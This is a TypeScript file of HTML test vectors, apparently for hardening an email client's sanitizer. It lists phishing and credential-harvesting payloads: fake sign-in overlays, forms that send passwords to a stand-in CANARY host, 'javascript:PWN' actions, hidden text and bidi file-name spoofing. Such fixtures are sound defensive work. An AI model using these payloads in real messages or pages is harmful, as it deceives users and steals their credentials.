import type { Vectors } from './vector.ts'

const whole = 'position:fixed;inset:0;width:100vw;height:100vh;z-index:2147483647;background:red'

/** Covers, restyles, measures, or imitates the screen, or submits something. */
export const shellVectors: Vectors = {
  'overlay that is fixed': `<div style="${whole}">Your session has ended.</div>`,
  'overlay by a style sheet': `<style>body::before{content:"";${whole}}</style><p>Dear all</p>`,
  'overlay above the top':
    '<div style="position:absolute;top:-3000px;left:-3000px;width:9000px;height:9000px;background:red">x</div>',
  'overlay by margins':
    '<div style="margin:-900px;padding:900px;background:red;position:relative;z-index:99999">x</div>',
  'overlay by an outline and a shadow': '<p style="outline:900px solid red;box-shadow:0 0 0 9000px red">x</p>',
  'overlay by a transformation': '<p style="transform:translate(-600px,-300px) scale(40);background:red">x</p>',
  'overlay by perspective': '<p style="transform:perspective(9px) translateZ(8px);background:red">x</p>',
  'overlay that sticks': '<p style="position:sticky;top:-500px;z-index:9999;background:red">x</p>',
  'overlay by an anchor':
    '<p style="anchor-name:--x">x</p><p style="position:fixed;position-anchor:--x;bottom:anchor(top)">y</p>',
  'overlay in the top layer, dialog': `<dialog open style="${whole}"><form method=dialog><button>Sign in</button></form></dialog>`,
  'overlay in the top layer, popover': `<div popover=manual id=p style="${whole}">x</div><button popovertarget=p>Go</button>`,
  'overlay of a page in full': '<video controls src="data:video/mp4,"></video><style>:fullscreen{z-index:9999}</style>',
  'styles of the page':
    '<style>*{display:none!important}html,body,header,nav,main,#root{background:red!important;color:red!important}</style>',
  'styles of the root':
    '<style>:root{--mui-palette-primary-main:red;font-size:99px!important;color-scheme:dark;zoom:9}</style>',
  'styles of the host':
    '<style>:host,:host-context(body),::slotted(*),::part(x){display:none!important}</style><p>x</p>',
  'body that hides itself':
    '<style>html,body{display:none!important;visibility:hidden!important}</style><p>Dear all</p>',
  title: '<title>Signed out</title><p>Dear all</p>',
  'title in the head':
    '<html><head><title>Signed out</title></head><body class="owned" style="zoom:9">Dear all</body></html>',
  'theme color and scale': '<meta name=theme-color content=red><meta name=viewport content="width=99"><p>x</p>',
  'spoofed notice':
    '<div role=alert aria-live=assertive id=root class=MuiAlert-root>Press Show images to sign in again.</div>',
  'spoofed header': `<header style="${whole};height:48px"><a href="/">Rejoinder</a></header>`,
  'name of the window': '<iframe name=_top></iframe><a name=__shell></a><form name=_parent></form>',
  'width without end': '<div style="width:99999999px;height:10px;background:red">x</div>',
  'height without end': '<div style="height:99999999px;background:red">x</div>',
  'height in a table': '<table width=9999999 height=9999999><tr><td height=9999999>x</table>',
  'height below nothing': '<div style="height:-99px;margin-bottom:-99999px;margin-top:-99999px">x</div>',
  'height of an image':
    '<img src="data:image/gif;base64,R0lGODlhAQABAAAAACwAAAAAAQABAAA=" height=9999999 width=9999999>',
  'height of an SVG': '<svg width=9999999 height=9999999 viewBox="0 0 1 1"><rect width=1 height=1 /></svg>',
  'height that follows the frame': '<style>body{min-height:100vh;padding-bottom:40px}</style><p>Dear all</p>',
  'height that doubles the frame': '<div style="height:200vh">x</div>',
  'height that outgrows the frame': '<div style="height:calc(100vh + 700px)">x</div>',
  'height that follows in the dynamic view': '<div style="height:120dvh;width:120dvw">x</div>',
  'height that swings': '<style>@media (min-height:400px){p{display:none}}p{height:900px}</style><p>x</p>',
  'height of nothing': '<style>html,body{height:0!important;max-height:0;overflow:hidden}</style><p>Dear all</p>',
  'height that is animated':
    '<style>@keyframes x{to{height:9000px}}div{height:9px;animation:x 50ms infinite alternate}</style><div>x</div>',
  zoom: '<div style="zoom:9999">x</div>',
  'font of a size without end': '<p style="font-size:9999999px;line-height:9999999px">x</p>',
  'font that is animated': '<style>@keyframes x{to{font-size:999px}}p{animation:x 1ms infinite}</style><p>Dear all</p>',
  'marquee and blink': '<marquee scrollamount=99999 truespeed scrolldelay=1>x</marquee><blink>y</blink>',
  'scroll to a target': '<div style="height:9000px"></div><a id=x href="#x" autofocus tabindex=-1>x</a>',
  'scroll that snaps':
    '<style>html{scroll-snap-type:y mandatory;overflow:scroll}p{scroll-snap-align:end;margin-top:900px}</style><p>x</p>',
  'text fragment': '<a href="#:~:text=Dear" autofocus>x</a>',
  'focus of an input': '<input autofocus><textarea autofocus></textarea><select autofocus></select>',
  'focus of a link': '<a href="https://firm.example" autofocus tabindex=1>x</a>',
  'focus of what can be edited': '<div contenteditable autofocus tabindex=1>Your password:</div>',
  'focus of a dialog': '<dialog open><button autofocus>Sign in</button></dialog>',
  'keys of the product': '<a accesskey=j href="https://CANARY/key">j</a><label accesskey=e>e<input></label>',
  'design mode': '<body contenteditable=true spellcheck=true>Your password:</body>',
  form: '<form action="https://CANARY/form"><input name=password><button>Sign in</button></form>',
  'form that posts': '<form method=post action="https://CANARY/post"><input type=submit value=Go></form>',
  'form to the top': '<form target=_top action="https://CANARY/form-top"><button>Go</button></form>',
  'form to a new window': '<form target=_blank action="https://CANARY/form-blank"><button>Go</button></form>',
  'form to a mail': '<form action="mailto:x@firm.example" method=post enctype=text/plain><button>Go</button></form>',
  'form of a script': '<form action="javascript:PWN"><button>Go</button></form>',
  'form of the product': '<form method=post action="/api/outlook/sync"><button>Go</button></form>',
  'button with an action': '<form id=f></form><button form=f formaction="https://CANARY/formaction">Go</button>',
  'button of a script': '<form><button formaction="javascript:PWN">Go</button></form>',
  'input of a picture as a button': '<form action="https://CANARY/image-form"><input type=image alt=Go></form>',
  'form in SVG':
    '<svg><foreignObject><form action="https://CANARY/svg-form"><button>Go</button></form></foreignObject></svg>',
  'form by Enter alone': '<form action="https://CANARY/enter"><input autofocus value=x></form>',
  'form that fills itself':
    '<form action="https://CANARY/fill" autocomplete=on><input name=username autocomplete=username><input type=password></form>',
  'label for the page': '<label for="search">x</label><output form=f for=root>y</output>',
  'permission element': '<permission type="camera microphone"></permission><geolocation autolocate></geolocation>',
  'drag of a link': '<a draggable=true href="https://CANARY/drag">x</a><div dropzone="copy">y</div>',
  'model context and tools':
    '<form toolname=send tooldescription="Send a mail" toolautosubmit action="https://CANARY/tool"></form>',
  'hidden by white on white': '<p style="color:#fff;background:#fff">SECRET</p><p>Dear all</p>',
  'hidden by its size': '<p style="font-size:0">SECRET</p><p>Dear all</p>',
  'hidden by display': '<p style="display:none">SECRET</p><p>Dear all</p>',
  'hidden by opacity': '<p style="opacity:0">SECRET</p><p>Dear all</p>',
  'hidden off the screen': '<p style="position:absolute;left:-9999px">SECRET</p><p>Dear all</p>',
  'hidden by its attribute': '<p hidden>SECRET</p><p aria-hidden=true>Dear all</p>',
  'hidden by clipping':
    '<p style="position:absolute;clip:rect(0,0,0,0);height:1px;width:1px;overflow:hidden">SECRET</p>',
  'hidden by directions': '<p dir=rtl>\u202Egnp.exe\u202C \u2066x\u2069 \u200Bfirm.example</p>',
}
